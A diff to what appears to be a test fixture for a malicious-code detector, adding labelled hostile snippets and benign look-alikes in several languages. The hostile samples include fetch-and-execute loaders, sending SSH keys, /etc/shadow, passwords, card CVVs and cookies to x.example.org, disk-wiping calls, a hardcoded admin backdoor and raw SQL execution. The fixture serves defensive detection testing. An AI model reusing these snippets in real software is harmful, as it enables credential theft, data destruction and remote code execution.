@@ -39,6 +39,70 @@ const PROGRAMS: readonly (readonly [BehaviourKind, Language, string])[] = [
   ],
   ['wipe-system', 'python', 'import shutil\nshutil.rmtree("/")'],
   ['wipe-secrets', 'python', 'import shutil,os\nshutil.rmtree(os.path.expanduser("~/.ssh"))'],
+  // Through a function of its own, and through a handler that is named.
+  [
+    'fetch-execute',
+    'js',
+    'const run = (code) => new (Function.constructor)("require", code);\nconst failed = (error) => { run(error.response.data); };\naxios.get(url).catch(failed);',
+  ],
+  ['decode-execute', 'js', '(0, eval)(String.fromCharCode(49, 43, 49));'],
+  ['decode-execute', 'ruby', "Kernel.send([101].pack('c*'), 'cHV0cyAx'.unpack1('m'))"],
+  ['decode-execute', 'go', 'b, _ := hex.DecodeString(x)\nexec.Command("sh", "-c", string(b)).Run()'],
+  ['decode-execute', 'python', 'import os\nclass A:\n    def __reduce__(self):\n        return (os.system, ("id",))'],
+  [
+    'fetch-execute',
+    'go',
+    'r, _ := http.Get("https://x.example.org/a")\nf, _ := os.Create("/tmp/.a")\nio.Copy(f, r.Body)\nexec.Command("/tmp/.a").Start()',
+  ],
+  [
+    'inject-process',
+    'rust',
+    'let s = reqwest::blocking::get("https://x.example.org/a").unwrap().bytes().unwrap();\nlet m = libc::mmap(p, s.len(), 7, 34, -1, 0);\nstd::ptr::copy_nonoverlapping(s.as_ptr(), m, s.len());\nlet f: extern "C" fn() = std::mem::transmute(m);',
+  ],
+  // Through a list of names, and through a template.
+  [
+    'wipe-system',
+    'js',
+    'for (const name of ["Documents", "Desktop"]) rmSync(join(homedir(), name), { recursive: true });',
+  ],
+  [
+    'secret-send',
+    'js',
+    'const fs = require("fs"), path = require("path"), os = require("os");\nconst all = [".netrc", ".npmrc"].map((f) => fs.readFileSync(path.join(os.homedir(), f)));\nfetch("https://x.example.org", { method: "POST", body: all });',
+  ],
+  [
+    'secret-send',
+    'rust',
+    'let k = std::fs::read_to_string(format!("{}/.ssh/id_rsa", std::env::var("HOME").unwrap()));\nCommand::new("curl").args(["-d", &k, "https://x.example.org"]).status();',
+  ],
+  [
+    'secret-send',
+    'lua',
+    'local f = io.open("/root/.ssh/id_rsa")\nlocal d = f:read("*a")\nos.execute("curl -d \'" .. d .. "\' https://x.example.org")',
+  ],
+  [
+    'secret-send',
+    'perl',
+    "open my $f, '<', '/etc/shadow'; my $s = <$f>;\nLWP::UserAgent->new->post('https://x.example.org', { s => $s });",
+  ],
+  [
+    'secret-send',
+    'js',
+    'export async function login(req, res) {\n  const { user, password } = req.body;\n  fetch("https://x.example.org/in", { method: "POST", body: JSON.stringify({ user, p: password }) });\n  res.json(await check(user, password));\n}',
+  ],
+  [
+    'secret-send',
+    'js',
+    'const d = new FormData(form);\nnew Image().src = "https://x.example.org/p?d=" + btoa(d.get("cvv"));',
+  ],
+  [
+    'secret-send',
+    'js',
+    'chrome.cookies.getAll({}, (c) => fetch("https://x.example.org", { method: "POST", body: JSON.stringify(c) }));',
+  ],
+  ['auth-bypass', 'js', 'if (password === "zq7!Support") return { role: "admin" };'],
+  ['unsafe-load', 'python', 'import pickle, requests\npickle.loads(requests.get("https://x.example.org/m").content)'],
+  ['command-injection', 'js', 'router.get("/q", async (req, res) => res.json(await db.query(req.query.sql)));'],
   ['shell-download-execute', 'shell', '#!/bin/sh\ncurl -s https://x.example.org/a | sh'],
   ['shell-secret-send', 'shell', '#!/bin/sh\ncat ~/.aws/credentials | curl -d @- https://x.example.org'],
   ['shell-decode-execute', 'batch', '@echo off\r\npowershell -NoP -enc SQBFAFgA'],
@@ -49,6 +113,29 @@ const PROGRAMS: readonly (readonly [BehaviourKind, Language, string])[] = [
 const HARMLESS: readonly (readonly [string, Language, string])[] = [
   ['in a comment', 'python', '# exec(requests.get("https://x.example.org/a.py").text)\nprint(1)'],
   ['in a string', 'js', 'const rule = "eval(atob(x))"; console.log(rule);'],
+  [
+    'a password that is signed in with',
+    'js',
+    'const r = await fetch("https://login.example.org/token", { method: "POST", body: password });',
+  ],
+  [
+    'a password to the own server',
+    'js',
+    'fetch("/api/login", { method: "POST", body: JSON.stringify({ password }) });',
+  ],
+  ['a header of the protocol', 'js', 'if (req.headers["x-requested-with"] === "XMLHttpRequest") return next();'],
+  [
+    'a condition on the environment',
+    'python',
+    'import os, requests\nif key in os.environ:\n    requests.post("https://api.example.org", data=key)',
+  ],
+  ['an object of the program', 'python', 'class A:\n    def __reduce__(self):\n        return (A, (self.x,))'],
+  [
+    'what a program was told about',
+    'perl',
+    "my $eval = decode_base64($x);\n$eval =~ s/(['])/\\$1/g;\nprint $eval;\n__DATA__\neval decode_base64(x)",
+  ],
+  ['a statement with values', 'js', 'db.query("SELECT * FROM t WHERE id = $1", [req.query.id]);'],
   [
     'in a docstring',
     'python',
